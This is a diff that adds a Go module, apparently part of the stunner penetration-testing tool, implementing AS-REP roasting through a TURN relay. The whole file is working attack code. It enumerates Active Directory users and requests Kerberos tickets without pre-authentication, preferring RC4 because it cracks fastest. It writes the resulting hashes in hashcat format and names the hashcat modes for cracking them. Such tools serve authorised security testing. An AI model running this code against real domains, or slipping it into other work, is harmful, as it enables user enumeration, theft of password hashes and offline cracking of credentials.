@@ -0,0 +1,245 @@
+package cmd
+
+import (
+	"crypto/rand"
+	"encoding/binary"
+	"errors"
+	"fmt"
+	"net/netip"
+	"os"
+	"strings"
+	"time"
+
+	"github.com/firefart/stunner/internal"
+	"github.com/firefart/stunner/internal/helper"
+	"github.com/firefart/stunner/internal/results"
+	"github.com/sirupsen/logrus"
+)
+
+// kerberosTimeout is the time to wait for the reply of the KDC
+const kerberosTimeout = 5 * time.Second
+
+type ASREPRoastOpts struct {
+	TurnServer string
+	Username   string
+	Password   string
+	UseTLS     bool
+	TlsVerify  bool
+	Timeout    time.Duration
+	Log        *logrus.Logger
+	// Targets are the domain controllers to query
+	Targets []netip.AddrPort
+	// ResultsFile is a result file of a previous scan. All hosts with
+	// an open Kerberos port are added to the targets
+	ResultsFile string
+	Domain      string
+	Users       []string
+	UserFile    string
+	// HashFile is the file the hashes are written to in hashcat format
+	HashFile string
+	Output   string
+}
+
+func (opts ASREPRoastOpts) Validate() error {
+	if opts.TurnServer == "" {
+		return fmt.Errorf("need a valid turnserver")
+	}
+	if !strings.Contains(opts.TurnServer, ":") {
+		return fmt.Errorf("turnserver needs a port")
+	}
+	if opts.Username == "" {
+		return fmt.Errorf("please supply a username")
+	}
+	if opts.Password == "" {
+		return fmt.Errorf("please supply a password")
+	}
+	if opts.Log == nil {
+		return fmt.Errorf("please supply a valid logger")
+	}
+	if len(opts.Targets) == 0 && opts.ResultsFile == "" {
+		return fmt.Errorf("please supply a target or a results file")
+	}
+	if opts.Domain == "" {
+		return fmt.Errorf("please supply a domain")
+	}
+	if len(opts.Users) == 0 && opts.UserFile == "" {
+		return fmt.Errorf("please supply a user or a user file")
+	}
+
+	return nil
+}
+
+// ASREPRoast requests a TGT without pre-authentication for every user
+// from the domain controllers. Users with pre-authentication disabled
+// receive an AS-REP that is encrypted with their password which can be
+// cracked offline
+func ASREPRoast(opts ASREPRoastOpts) error {
+	if err := opts.Validate(); err != nil {
+		return err
+	}
+
+	targets := opts.Targets
+	if opts.ResultsFile != "" {
+		findings, err := results.ReadFile(opts.ResultsFile)
+		if err != nil {
+			return fmt.Errorf("could not read %s: %w", opts.ResultsFile, err)
+		}
+		targets = append(targets, kerberosTargets(findings)...)
+	}
+	if len(targets) == 0 {
+		return fmt.Errorf("no domain controllers found")
+	}
+
+	users := opts.Users
+	if opts.UserFile != "" {
+		u, err := helper.ReadWordlist(opts.UserFile)
+		if err != nil {
+			return fmt.Errorf("could not read user file: %w", err)
+		}
+		users = append(users, u...)
+	}
+
+	writer, err := results.NewWriter(opts.Output)
+	if err != nil {
+		return err
+	}
+	defer writer.Close()
+
+	var hashFile *os.File
+	if opts.HashFile != "" {
+		hashFile, err = os.Create(opts.HashFile)
+		if err != nil {
+			return fmt.Errorf("could not create hash file: %w", err)
+		}
+		defer hashFile.Close()
+	}
+
+	roastable := 0
+	for _, user := range users {
+		target, rep, err := asrepRequest(opts, targets, user)
+		finding := results.Finding{
+			Module:   "asrep-roast",
+			Relay:    opts.TurnServer,
+			Host:     target.Addr().String(),
+			Port:     target.Port(),
+			Protocol: "tcp",
+			Service:  "kerberos",
+			Details: map[string]string{
+				"domain": strings.ToUpper(opts.Domain),
+				"user":   user,
+			},
+		}
+		var krbErr *helper.KerberosError
+		switch {
+		case err == nil:
+			roastable++
+			hash := rep.Hashcat()
+			opts.Log.Warnf("%s does not require pre-authentication: %s", user, hash)
+			finding.Details["status"] = "roastable"
+			finding.Details["etype"] = fmt.Sprintf("%d", rep.EType)
+			finding.Details["hash"] = hash
+			if hashFile != nil {
+				if _, err := fmt.Fprintln(hashFile, hash); err != nil {
+					return fmt.Errorf("could not write hash: %w", err)
+				}
+			}
+		case errors.As(err, &krbErr) && krbErr.Code == helper.KerberosErrPreauthRequired:
+			opts.Log.Infof("%s exists and requires pre-authentication", user)
+			finding.Details["status"] = "preauth-required"
+		case errors.As(err, &krbErr) && krbErr.Code == helper.KerberosErrClientRevoked:
+			opts.Log.Infof("%s exists but is disabled or locked", user)
+			finding.Details["status"] = "revoked"
+		case errors.As(err, &krbErr) && krbErr.Code == helper.KerberosErrPrincipalUnknown:
+			opts.Log.Debugf("%s does not exist", user)
+			continue
+		default:
+			opts.Log.Errorf("%s: %v", user, err)
+			finding.Service = ""
+			finding.Error = err.Error()
+		}
+		if err := writer.Write(finding); err != nil {
+			return err
+		}
+	}
+
+	opts.Log.Infof("found %d users without pre-authentication", roastable)
+	if opts.HashFile != "" && roastable > 0 {
+		opts.Log.Infof("hashes written to %s, crack them with hashcat -m 18200 (RC4) or -m 32100/32200 (AES)", opts.HashFile)
+	}
+	if opts.Output != "" {
+		opts.Log.Infof("results written to %s", opts.Output)
+	}
+	return nil
+}
+
+// kerberosTargets returns all hosts with an open Kerberos port
+func kerberosTargets(findings []results.Finding) []netip.AddrPort {
+	var ret []netip.AddrPort
+	seen := make(map[netip.AddrPort]struct{})
+	for _, f := range findings {
+		if f.Port != 88 || f.Protocol != "tcp" || f.Error != "" {
+			continue
+		}
+		ip, err := netip.ParseAddr(f.Host)
+		if err != nil {
+			continue
+		}
+		target := netip.AddrPortFrom(ip, f.Port)
+		if _, ok := seen[target]; ok {
+			continue
+		}
+		seen[target] = struct{}{}
+		ret = append(ret, target)
+	}
+	return ret
+}
+
+// asrepRequest sends the AS-REQ to the domain controllers until one
+// answers and returns the domain controller and the reply
+func asrepRequest(opts ASREPRoastOpts, targets []netip.AddrPort, user string) (netip.AddrPort, *helper.ASREP, error) {
+	var lastErr error
+	for _, target := range targets {
+		rep, err := asrepSend(opts, target, user)
+		var krbErr *helper.KerberosError
+		if err == nil || errors.As(err, &krbErr) {
+			return target, rep, err
+		}
+		opts.Log.Debugf("%s did not answer: %v", target, err)
+		lastErr = err
+	}
+	return targets[len(targets)-1], nil, lastErr
+}
+
+// asrepSend sends a single AS-REQ via Kerberos over TCP
+func asrepSend(opts ASREPRoastOpts, target netip.AddrPort, user string) (*helper.ASREP, error) {
+	conn, err := internal.DialTurnTCP(opts.Log, opts.TurnServer, opts.UseTLS, opts.TlsVerify, opts.Timeout, target.Addr(), target.Port(), opts.Username, opts.Password)
+	if err != nil {
+		return nil, fmt.Errorf("could not connect: %w", err)
+	}
+	defer conn.Close()
+
+	var nonce [4]byte
+	if _, err := rand.Read(nonce[:]); err != nil {
+		return nil, err
+	}
+	// RC4 first as it is the fastest to crack
+	req := helper.KerberosASREQ(opts.Domain, user, binary.BigEndian.Uint32(nonce[:])&0x7fffffff, []int{helper.KerberosETypeRC4, helper.KerberosETypeAES256, helper.KerberosETypeAES128})
+	if err := helper.ConnectionWrite(conn, helper.KerberosTCPFrame(req), kerberosTimeout); err != nil {
+		return nil, fmt.Errorf("could not send AS-REQ: %w", err)
+	}
+
+	var buf []byte
+	for {
+		data, err := helper.ConnectionRead(conn, kerberosTimeout)
+		if err != nil {
+			return nil, fmt.Errorf("could not read reply: %w", err)
+		}
+		if len(data) == 0 {
+			return nil, fmt.Errorf("connection closed by the KDC")
+		}
+		buf = append(buf, data...)
+		if msg := helper.ParseKerberosTCPFrame(buf); msg != nil {
+			return helper.ParseKerberosASReply(msg)
+		}
+	}
+}